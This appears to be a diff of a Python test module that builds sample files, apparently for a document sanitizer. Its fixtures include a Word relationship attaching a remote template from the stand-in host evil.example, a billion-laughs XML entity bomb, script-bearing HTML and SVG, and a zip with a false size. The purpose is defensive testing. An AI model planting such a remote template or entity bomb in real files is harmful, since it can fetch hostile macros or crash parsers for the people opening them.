@@ -11,20 +11,60 @@ import pillow_heif
 from PIL import Image
 
 GPS = {1: "N", 2: (43.0, 14.0, 0.0), 3: "E", 4: (76.0, 57.0, 0.0)}
+RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml."
+
+
+def relations(*rows: tuple[str, str, str], prefix: str = "") -> str:
+    """Return a part of relations r1, r2…: (type, target, "External" or "")."""
+    declaration, tag = (f"xmlns:{prefix}", f"{prefix}:") if prefix else ("xmlns", "")
+    return (
+        f'<?xml version="1.0"?><{tag}Relationships {declaration}='
+        '"http://schemas.openxmlformats.org/package/2006/relationships">'
+        + "".join(
+            f'<{tag}Relationship Id="r{number}" Target="{target}" '
+            f'Type="{kind if ":" in kind else RELATION + kind}"'
+            + (f' TargetMode="{mode}"/>' if mode else "/>")
+            for number, (kind, target, mode) in enumerate(rows, 1)
+        )
+        + f"</{tag}Relationships>"
+    )
+
+
+def word_part(name: str, inside: str) -> str:
+    """Return a part of a Word file: <w:name>inside</w:name>."""
+    return (
+        f'<?xml version="1.0"?><w:{name} xmlns:w="{WORD}" xmlns:r="{RELATION[:-1]}" '
+        'xmlns:v="urn:schemas-microsoft-com:vml" '
+        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
+        f"{inside}</w:{name}>"
+    )
+
+
+def word_text(runs: str) -> str:
+    """Return the main part of a Word file with one paragraph of the given runs."""
+    return word_part("document", f"<w:body><w:p>{runs}</w:p></w:body>")
+
+
 DOCX = {
-    "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
-    '<Default Extension="xml" ContentType="application/xml"/></Types>',
-    "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>',
-    "word/document.xml": '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
-    "<w:body><w:p><w:r><w:t>Өтініш</w:t></w:r></w:p></w:body></w:document>",
+    "[Content_Types].xml": (
+        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        '<Default Extension="xml" ContentType="application/xml"/>'
+        '<Default Extension="bin" ContentType="application/octet-stream"/>'
+        f'<Override PartName="/word/document.xml" ContentType="{WORD_TYPE}document.main+xml"/>'
+        f'<Override PartName="/word/settings.xml" ContentType="{WORD_TYPE}settings+xml"/></Types>'
+    ),
+    "_rels/.rels": relations(
+        ("officeDocument", "word/document.xml", ""),
+        ("http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties", "docProps/core.xml", ""),
+    ),
+    "word/document.xml": word_text("<w:r><w:t>Өтініш</w:t></w:r>"),
     "docProps/core.xml": "<coreProperties><creator>Sergei Ivanov</creator></coreProperties>",
-}
-EXTERNAL_TEMPLATE = (
-    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
-    'Target="https://evil.example/t.dotm" TargetMode="External"/>'
-    '<Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
-    'Target="https://adilet.zan.kz" TargetMode="External"/></Relationships>'
+}  # fmt: skip
+EXTERNAL_TEMPLATE = relations(
+    ("attachedTemplate", "https://evil.example/t.dotm", "External"),
+    ("hyperlink", "https://adilet.zan.kz", "External"),
 )
 
 
@@ -156,7 +196,7 @@ def zip_with_false_size() -> bytes:
 
 BILLION_LAUGHS = (
     '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
-    "<w:document>&b;</w:document>"
+    f'<w:document xmlns:w="{WORD}">&b;</w:document>'
 )
 HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
